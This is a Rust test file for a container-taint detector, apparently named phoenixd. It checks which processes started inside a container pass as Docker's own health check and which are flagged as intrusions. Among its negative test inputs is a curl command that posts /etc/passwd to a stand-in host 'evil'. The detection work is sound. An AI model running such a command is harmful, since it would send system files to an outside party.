//! Docker's own health check is no taint, whatever its process becomes, and nothing else passes for it.

use std::time::Duration;

use phoenixd::reconcile::{Entry, Exec, ExecFacts, HealthExec, Intruder, Kernel, Touch};

use super::scenario::{Scenario, secs};
use super::taints::{exec, is_tainted_by, judged, serving};

/// As the kernel says of every replica here.
const OWN: u32 = 1000;
const SCRIPT: &str = "curl -f localhost || exit 1";

/// A replica with Docker's own health check, a script.
pub(super) fn checked() -> Scenario {
    checked_by(&["/bin/sh", "-c", SCRIPT], true)
}

fn checked_by(arguments: &[&str], shell: bool) -> Scenario {
    let mut scenario = serving();
    let id = scenario.id_of("web-1");
    let check = HealthExec {
        arguments: arguments.iter().map(ToString::to_string).collect(),
        shell,
        user: "app".to_owned(),
    };
    let observed = scenario.containers.get_mut(&id).unwrap();
    observed.health_exec = Some(check);
    if let Kernel::Read { facts, .. } = &mut observed.kernel {
        facts.uid = OWN;
    }
    scenario.list();
    scenario
}

fn probe(change: impl FnOnce(&mut ExecFacts)) -> Touch {
    let mut facts = ExecFacts {
        arguments: ["/bin/sh", "-c", SCRIPT].map(str::to_owned).to_vec(),
        privileged: false,
        tty: false,
        stdin: false,
        user: "app".to_owned(),
    };
    change(&mut facts);
    Touch::Exec(Exec {
        id: "e1".to_owned(),
        command: format!("/bin/sh -c {SCRIPT}"),
        facts: Some(facts),
    })
}

/// A check, as the engine tells of it.
fn check(id: &str) -> Touch {
    Touch::Exec(Exec {
        id: id.to_owned(),
        command: format!("/bin/sh -c {SCRIPT}"),
        facts: None,
    })
}

fn ended(id: &str) -> Touch {
    let (id, code) = (id.to_owned(), Some(0));
    Touch::ExecEnded { id, code }
}

/// A process whose start was not seen.
fn process(pid: u32, command: &str) -> Touch {
    Touch::Intruder(Intruder {
        pid,
        how: Entry::Shim,
        command: command.to_owned(),
        arguments: Vec::new(),
        uid: Some(OWN),
        cap_bounding: Some(0),
        terminal: Some(false),
    })
}

/// A start that was seen.
fn start(arguments: &[&str], change: impl FnOnce(&mut Intruder)) -> Touch {
    let mut intruder = Intruder {
        pid: 7,
        how: Entry::Shim,
        command: arguments.join(" "),
        arguments: arguments.iter().map(ToString::to_string).collect(),
        uid: Some(OWN),
        cap_bounding: Some(0),
        terminal: Some(false),
    };
    change(&mut intruder);
    Touch::Intruder(intruder)
}

#[test]
fn docker_s_own_health_check_is_no_taint_and_nothing_else_passes_for_it() {
    assert!(!is_tainted_by(checked(), probe(|_| {})));
    // The facts follow the event.
    assert!(!is_tainted_by(checked(), check("e1")));
    assert!(is_tainted_by(checked(), exec("/bin/sh")));
    assert!(is_tainted_by(
        checked(),
        probe(|facts| facts.privileged = true)
    ));
    assert!(is_tainted_by(checked(), probe(|facts| facts.tty = true)));
    assert!(is_tainted_by(checked(), probe(|facts| facts.stdin = true)));
    assert!(is_tainted_by(
        checked(),
        probe(|facts| facts.user = "root".to_owned())
    ));
    assert!(is_tainted_by(checked(), probe(|facts| facts.user.clear())));
    let other_words = |facts: &mut ExecFacts| facts.arguments = vec!["/bin/sh -c curl".to_owned()];
    assert!(is_tainted_by(checked(), probe(other_words)));
    // Without a health check everything is somebody's hand.
    assert!(is_tainted_by(serving(), probe(|_| {})));
}

#[test]
fn the_engine_s_words_of_a_check_are_compared_as_it_says_and_cuts_them() {
    let told =
        |arguments: &[&str], told: &str| !is_tainted_by(checked_by(arguments, false), exec(told));
    // A program without arguments is told with a blank behind it.
    assert!(told(&["/bin/check"], "/bin/check"));
    assert!(told(&["/bin/check"], "/bin/check "));
    assert!(told(&["/bin/check", "a "], "/bin/check a "));
    assert!(!told(&["/bin/check"], "/bin/check a"));
    assert!(!told(&["/bin/check"], "/bin/chec"));
    // A long one is told to where it was cut.
    let long = "x".repeat(2 * Exec::COMMAND_BYTES);
    let mut cut = format!("/bin/check {long}");
    cut.truncate(Exec::COMMAND_BYTES);
    assert!(told(&["/bin/check", &long], &cut));
    assert!(!told(&["/bin/check", "y"], &cut));
    // What it is the facts say, and no cut text.
    let facts = ExecFacts {
        arguments: vec!["/bin/check".to_owned(), format!("{long}y")],
        privileged: false,
        tty: false,
        stdin: false,
        user: "app".to_owned(),
    };
    let other = Touch::Exec(Exec {
        id: "e1".to_owned(),
        command: cut,
        facts: Some(facts),
    });
    assert!(is_tainted_by(
        checked_by(&["/bin/check", &long], false),
        other
    ));
}

#[test]
fn a_start_that_was_seen_is_the_check_s_with_its_very_arguments_as_its_user_and_no_other() {
    let arguments = ["/bin/sh", "-c", SCRIPT];
    assert!(!is_tainted_by(checked(), start(&arguments, |_| {})));
    for other in [
        &["curl", "-f", "localhost"][..],
        &["curl", "-d", "@/etc/passwd", "evil"],
        &["/bin/sh"],
        &["/bin/sh", "-c", "curl -f localhost"],
        &["/bin/sh -c curl -f localhost || exit 1"],
    ] {
        assert!(is_tainted_by(checked(), start(other, |_| {})), "{other:?}");
    }
    let is_tainted =
        |change: fn(&mut Intruder)| is_tainted_by(checked(), start(&arguments, change));
    assert!(is_tainted(|it| it.uid = Some(0)));
    assert!(is_tainted(|it| it.terminal = Some(true)));
    assert!(is_tainted(|it| it.cap_bounding = Some(1)));
    // By hand: the engine says with each what it may do.
    assert!(is_tainted(
        |it| (it.terminal, it.cap_bounding) = (None, None)
    ));
    assert!(is_tainted(
        |it| it.how = Entry::OtherCgroup { container: None }
    ));
    // Without a health check everything is somebody's hand.
    assert!(is_tainted_by(serving(), start(&arguments, |_| {})));
    // With the pause the address of the service would go: it is recorded.
    let beside = |it: &mut Intruder| it.how = Entry::Network { container: None };
    assert!(!is_tainted_by(serving(), start(&["tcpdump"], beside)));
}

#[test]
fn a_number_says_who_the_check_s_user_is_also_where_process_1_has_become_another() {
    let mut scenario = checked();
    let id = scenario.id_of("web-1");
    let observed = scenario.containers.get_mut(&id).unwrap();
    observed.health_exec.as_mut().unwrap().user = String::new();
    scenario.list();
    let arguments = ["/bin/sh", "-c", SCRIPT];
    scenario.touched("web-1", start(&arguments, |it| it.uid = Some(0)));
    scenario.touched("web-1", start(&arguments, |it| it.uid = Some(OWN)));
    assert_eq!(judged(&scenario), "");
    scenario.touched("web-1", start(&arguments, |it| it.uid = Some(33)));
    assert!(judged(&scenario).contains("tainted"));
}

#[test]
fn what_the_check_s_shell_turns_into_is_the_check_without_anybody_s_word() {
    for command in [
        "/bin/sh -c curl -f localhost || exit 1",
        "curl -f localhost",
    ] {
        let mut scenario = checked();
        scenario.touched("web-1", process(7, command));
        assert_eq!(scenario.live(secs(10)), "", "{command}");
        assert_eq!(judged(&scenario), "", "{command}");
    }
}

#[test]
fn whose_start_was_not_seen_waits_for_the_engine_s_word_and_not_for_long() {
    for command in [
        "wget -q -O - localhost",
        "curl",
        "curl -f evil",
        "sh",
        "runc init",
    ] {
        let mut scenario = checked();
        scenario.touched("web-1", process(7, command));
        assert_eq!(judged(&scenario), "", "{command}");
        assert_eq!(scenario.live(Duration::from_millis(1999)), "");
        assert_ne!(scenario.live(secs(1)), "", "{command}");
        let expected =
            format!("web-1 tainted: process 7 (`{command}`) was started in it from outside");
        assert_eq!(judged(&scenario), expected);
    }
    // Nobody's check runs as another user, or with more.
    let mut root = process(7, "wget");
    if let Touch::Intruder(intruder) = &mut root {
        intruder.uid = Some(0);
    }
    assert!(is_tainted_by(checked(), root));
    assert!(is_tainted_by(serving(), process(7, "wget")));
}

#[test]
fn a_check_explains_one_process_whatever_it_has_become_and_in_either_order() {
    for check_first in [true, false] {
        let mut scenario = checked();
        for round in 0..100 {
            let id = format!("e{round}");
            let process = process(100 + round, "sleep 0.2");
            if check_first {
                scenario.touched("web-1", check(&id));
                scenario.touched("web-1", process);
            } else {
                scenario.touched("web-1", process);
                scenario.live(Duration::from_millis(300));
                scenario.touched("web-1", check(&id));
            }
            scenario.live(Duration::from_millis(200));
            scenario.touched("web-1", ended(&id));
            scenario.live(Duration::from_millis(800));
        }
        assert_eq!(judged(&scenario), "", "{check_first}");
    }
    // Also when it has ended already, a moment ago.
    let mut scenario = checked();
    scenario.touched("web-1", check("e1"));
    scenario.touched("web-1", ended("e1"));
    scenario.touched("web-1", process(7, "sleep 0.2"));
    scenario.live(secs(10));
    assert_eq!(judged(&scenario), "");
}

#[test]
fn who_is_there_beside_a_check_or_longer_is_found() {
    // Two processes and one check.
    let mut scenario = checked();
    scenario.touched("web-1", check("e1"));
    scenario.touched("web-1", process(7, "sleep 0.2"));
    scenario.touched("web-1", process(8, "sh"));
    scenario.live(secs(3));
    assert!(
        judged(&scenario).contains("process 8 (`sh`)"),
        "{}",
        judged(&scenario)
    );
    // One that stays while the checks come and go: each is told again and again.
    let mut scenario = checked();
    scenario.touched("web-1", check("e0"));
    scenario.touched("web-1", process(7, "sh"));
    scenario.touched("web-1", ended("e0"));
    let mut seconds = 0;
    while judged(&scenario).is_empty() {
        seconds += 1;
        assert!(seconds < 5, "it hides behind one check after the other");
        scenario.touched("web-1", check(&format!("e{seconds}")));
        scenario.live(secs(1));
        scenario.touched("web-1", ended(&format!("e{seconds}")));
        scenario.touched("web-1", process(7, "sh"));
    }
    // A check that takes long is one as long as it runs.
    let mut scenario = checked();
    scenario.touched("web-1", check("e1"));
    for _ in 0..100 {
        scenario.touched("web-1", process(7, "wget"));
        scenario.live(secs(2));
    }
    assert_eq!(judged(&scenario), "");
    // The end of one is not told, as when the engine's word is cut: the next one ends it.
    scenario.touched("web-1", check("e2"));
    scenario.live(secs(3));
    scenario.touched("web-1", process(7, "wget"));
    assert!(judged(&scenario).contains("process 7 (`wget`)"));
}

#[test]
fn where_nobody_knows_a_process_for_a_check_s_it_is_only_told_where_the_file_says_so() {
    let mut scenario = checked();
    scenario.change(|desired| desired.phoenix.on_taint = phoenixd::spec::OnTaint::Report);
    for _ in 0..10 {
        scenario.touched("web-1", process(7, "sh"));
        assert_eq!(scenario.live(secs(2)), "");
    }
    assert_eq!(
        judged(&scenario),
        "web-1 reported: process 7 (`sh`) was started in it from outside"
    );
}
